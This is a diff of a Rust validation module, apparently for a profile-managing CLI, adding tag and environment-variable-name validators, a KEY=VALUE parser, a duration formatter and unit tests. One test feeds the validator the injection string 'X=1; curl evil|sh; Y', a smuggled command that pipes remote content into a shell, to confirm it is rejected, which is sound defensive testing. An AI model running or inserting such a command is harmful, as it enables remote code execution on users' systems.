@@ -1,4 +1,5 @@
 use crate::error::{Error, Result};
+use chrono::Duration;
 
 /// Validate profile name (alphanumeric + hyphen/underscore)
 pub fn validate_profile_name(name: &str) -> Result<()> {
@@ -21,6 +22,67 @@ pub fn validate_profile_name(name: &str) -> Result<()> {
     Ok(())
 }
 
+/// Validate a profile tag (alphanumeric plus `-_.:/`)
+pub fn validate_tag(tag: &str) -> Result<()> {
+    let valid = !tag.is_empty()
+        && tag
+            .chars()
+            .all(|c| c.is_alphanumeric() || "-_.:/".contains(c));
+
+    if !valid {
+        return Err(Error::ConfigError(format!(
+            "Invalid tag '{}': use letters, digits and -_.:/",
+            tag
+        )));
+    }
+
+    Ok(())
+}
+
+/// Validate an environment variable name (`[A-Za-z_][A-Za-z0-9_]*`), so it
+/// can be printed unquoted in `export NAME=...`
+pub fn validate_env_name(name: &str) -> Result<()> {
+    let mut chars = name.chars();
+    let valid = chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
+
+    if !valid {
+        return Err(Error::ConfigError(format!(
+            "Invalid environment variable name '{}'",
+            name
+        )));
+    }
+
+    Ok(())
+}
+
+/// Split a `KEY=VALUE` command line argument
+pub fn parse_key_value(arg: &str) -> Result<(String, String)> {
+    match arg.split_once('=') {
+        Some((key, value)) if !key.is_empty() => Ok((key.to_string(), value.to_string())),
+        _ => Err(Error::ConfigError(format!(
+            "Invalid argument '{}': expected KEY=VALUE",
+            arg
+        ))),
+    }
+}
+
+/// Format a duration for humans, e.g. "2d 3h", "7h 59m", "12m"
+pub fn format_duration(duration: Duration) -> String {
+    let minutes = duration.num_minutes().max(0);
+    let (days, hours, minutes) = (minutes / (24 * 60), minutes / 60 % 24, minutes % 60);
+
+    if days > 0 {
+        format!("{}d {}h", days, hours)
+    } else if hours > 0 {
+        format!("{}h {}m", hours, minutes)
+    } else {
+        format!("{}m", minutes)
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -60,4 +122,49 @@ mod tests {
             Err(Error::InvalidProfileName(_))
         ));
     }
+
+    #[test]
+    fn test_validate_tag() {
+        assert!(validate_tag("infra").is_ok());
+        assert!(validate_tag("team/platform:v2").is_ok());
+        assert!(validate_tag("").is_err());
+        assert!(validate_tag("two words").is_err());
+        assert!(validate_tag("env=prod").is_err());
+    }
+
+    #[test]
+    fn test_validate_env_name() {
+        assert!(validate_env_name("HTTPS_PROXY").is_ok());
+        assert!(validate_env_name("_private1").is_ok());
+        assert!(validate_env_name("").is_err());
+        assert!(validate_env_name("1ABC").is_err());
+        assert!(validate_env_name("X=1; curl evil|sh; Y").is_err());
+        assert!(validate_env_name("NAME-WITH-DASH").is_err());
+    }
+
+    #[test]
+    fn test_parse_key_value() {
+        assert_eq!(
+            parse_key_value("team=infra").unwrap(),
+            ("team".to_string(), "infra".to_string())
+        );
+        assert_eq!(
+            parse_key_value("url=a=b").unwrap(),
+            ("url".to_string(), "a=b".to_string())
+        );
+        assert_eq!(
+            parse_key_value("empty=").unwrap(),
+            ("empty".to_string(), String::new())
+        );
+        assert!(parse_key_value("novalue").is_err());
+        assert!(parse_key_value("=value").is_err());
+    }
+
+    #[test]
+    fn test_format_duration() {
+        assert_eq!(format_duration(Duration::minutes(12)), "12m");
+        assert_eq!(format_duration(Duration::minutes(7 * 60 + 59)), "7h 59m");
+        assert_eq!(format_duration(Duration::hours(51)), "2d 3h");
+        assert_eq!(format_duration(Duration::minutes(-5)), "0m");
+    }
 }